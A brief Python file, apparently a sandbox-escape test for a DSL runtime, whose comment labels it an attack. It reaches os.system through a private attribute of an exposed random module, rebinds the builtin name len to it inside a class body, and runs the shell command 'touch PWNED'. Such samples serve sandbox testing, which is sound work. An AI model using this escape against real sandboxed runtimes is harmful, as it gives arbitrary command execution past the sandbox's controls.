# Attack: a class body is a scope of its own: rebind an allowed builtin's name there and call it.
from dsl.runtime.engine import random as r


class Runner:
    len = r._os.system
    done = len("touch PWNED")
